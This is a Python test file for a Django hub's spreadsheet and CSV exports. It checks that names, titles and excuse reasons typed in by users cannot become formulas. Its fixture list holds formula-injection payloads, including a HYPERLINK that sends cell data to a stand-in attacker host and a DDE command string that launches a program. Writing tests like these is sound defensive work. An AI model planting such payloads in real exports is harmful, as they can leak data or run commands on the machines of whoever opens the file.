"""Issue 11, item 10: text from people (class titles, excuse reasons, names of branches, members and
enterprises) never becomes a formula in an export. Every .xlsx and CSV of the hub goes through hub.exports;
each export is checked here with several injection strings, not only the `=` of the report."""

import csv
import io
import zipfile
from datetime import timedelta

import pytest
from django.test import Client
from openpyxl import load_workbook

from hub.exports import Sheet, csv_bytes, is_formula_like, safe_cell, sheet_title, xlsx_bytes
from livestreams.models import Attendance, LiveSession, PartyClass
from livestreams.services.attendance import attendance_compute, attendance_excuse
from tests import factories as f
from tests.classes_helpers import class_session, local
from tests.dashboard_fixtures import PERIOD, build_district
from tests.sales_helpers import ended_sales_session

INJECTIONS = [
    "=1+1",
    '=HYPERLINK("http://evil.example.com/?"&A1,"点我")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u3000=1+1",  # ideographic space
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # a BOM
    "＝1+1",  # full-width equals
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",  # small equals
    "\u22121+1",  # minus sign
]
SAFE = ["党课", "1+1=2", "a=b", "", "张三 (=)", "100", "2024-01-01"]


def client_for(user):
    client = Client()
    client.force_login(user)
    return client


def xlsx_cells(content: bytes) -> list:
    """Every cell of every sheet; fails when the file holds any formula at all."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    wb = load_workbook(io.BytesIO(content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    return cells


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def assert_csv_neutral(rows, text):
    found = [cell for row in rows for cell in row if cell.endswith(text.lstrip()) or cell == "'" + text]
    assert found, text
    assert all(cell.startswith("'") for cell in found), found


@pytest.mark.parametrize("text", INJECTIONS)
def test_every_member_of_the_formula_class_is_recognized(text):
    assert is_formula_like(text)
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", SAFE)
def test_ordinary_text_is_left_alone(text):
    assert not is_formula_like(text)
    assert safe_cell(text) == text


def test_numbers_and_dates_keep_their_type():
    assert safe_cell(-5) == -5 and safe_cell(None) == ""
    cells = xlsx_cells(xlsx_bytes([Sheet("s", ["a", "b"], [[-5, "-5"]])]))
    values = {c.coordinate: (c.value, c.data_type) for c in cells}
    assert values["A2"] == (-5, "n") and values["B2"] == ("-5", "s")


def test_sheet_names_are_cleaned_and_unique():
    used: set[str] = set()
    names = [sheet_title(t, used) for t in ["a/b:c", "a/b:c", "'引号'", "x" * 40, "[]", "=1+1"]]
    assert names[0] == "abc" and names[1] == "abc~2"
    assert names[2] == "引号" and len(names[3]) == 31 and names[4] == "Sheet"
    assert len(set(names)) == len(names)
    wb = load_workbook(io.BytesIO(xlsx_bytes([Sheet(t, ["h"], []) for t in ["a/b", "a/b", "'x"]])))
    assert wb.sheetnames == ["ab", "ab~2", "x"]


def test_control_characters_that_xlsx_cannot_hold_are_dropped_not_a_500():
    cells = xlsx_cells(xlsx_bytes([Sheet("s", ["h"], [["党\x00课\x0b\x1f"]])]))
    assert [c.value for c in cells] == ["h", "党课"]


def test_a_table_written_both_ways_keeps_the_text_in_xlsx_and_neutralizes_csv():
    rows = [[text] for text in INJECTIONS]
    cells = xlsx_cells(xlsx_bytes([Sheet("s", ["h"], rows)]))
    assert [c.value for c in cells[1:]] == [t.replace("\r", "\n") for t in INJECTIONS]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells[1:])
    assert [r[0] for r in csv_rows(csv_bytes(["h"], rows))[1:]] == ["'" + t for t in INJECTIONS]


# --- Through every export of the hub ------------------------------------------------------------------

T0 = local(2026, 5, 20, 19, 0)


def _ended_class_with_injected_text(world, text):
    s = class_session(world, status=LiveSession.Status.ENDED, starts_at=T0, ends_at=T0 + timedelta(hours=1))
    LiveSession.objects.filter(pk=s.pk).update(
        went_live_at=T0, ended_at=T0 + timedelta(hours=1), title=text + "标题"
    )
    member = f.MemberFactory(user=f.UserFactory(name=text + "名"), branch=world.branch_a)
    excused = f.MemberFactory(user=f.UserFactory(name="王五"), branch=world.branch_a)
    attendance_compute(session_id=s.pk)
    attendance_excuse(party_class=PartyClass.objects.get(pk=s.pk), member=excused, reason=text + "事由")
    return s, member


@pytest.mark.django_db
@pytest.mark.parametrize("text", ["=1+1", "@SUM(1)", "\t-1", "＝cmd", " +1"])
def test_the_attendance_exports_neutralize_injected_text(world, organizer, text):
    s, member = _ended_class_with_injected_text(world, text)
    # As stored (the services strip surrounding whitespace of a reason, not the formula).
    reason = Attendance.objects.exclude(excuse_reason="").get(session_id=s.pk).excuse_reason
    stored = [reason, member.user.name, LiveSession.objects.get(pk=s.pk).title]
    assert all(is_formula_like(v) for v in stored)
    client = client_for(organizer)
    values = [c.value for c in xlsx_cells(client.get(f"/classes/{s.pk}/attendance.xlsx").content)]
    assert all(v.replace("\r", "\n") in values for v in stored)
    rows = csv_rows(client.get(f"/classes/{s.pk}/attendance.csv").content)
    assert_csv_neutral(rows, reason)
    assert_csv_neutral(rows, member.user.name)


@pytest.mark.django_db
@pytest.mark.parametrize("text", ["=1+1", "-2+3+cmd|' /C calc'!A0", "\r@x"])
def test_the_ledger_exports_neutralize_branch_names(world, organizer, text):
    world.branch_a2.name = text + "支部"
    world.branch_a2.save()
    client = client_for(organizer)
    values = [c.value for c in xlsx_cells(client.get("/classes/records.xlsx").content)]
    assert (text + "支部").replace("\r", "\n") in values  # XML keeps line ends as LF
    assert_csv_neutral(csv_rows(client.get("/classes/records.csv").content), text + "支部")


@pytest.mark.django_db
@pytest.mark.parametrize("text", ["=1+1", "+HYPERLINK(1)", "\u3000=2"])
def test_the_dashboard_export_neutralizes_names(world, official, text):
    build_district(world)
    world.branch_a.name = text + "支部"
    world.branch_a.save()
    response = client_for(official).get("/dashboard/export.xlsx", PERIOD)
    assert response.status_code == 200
    values = [c.value for c in xlsx_cells(response.content)]
    assert text + "支部" in values


@pytest.mark.django_db
@pytest.mark.parametrize("text", ["=1+1", "@A1", "－1"])
def test_the_import_template_neutralizes_session_titles(world, merchant, text):
    ss = ended_sales_session(world.enterprise_a)
    LiveSession.objects.filter(pk=ss.pk).update(title=text + "专场")
    rows = csv_rows(client_for(merchant).get("/sales/results/template.csv").content)
    assert rows[1][1] == "'" + text + "专场"
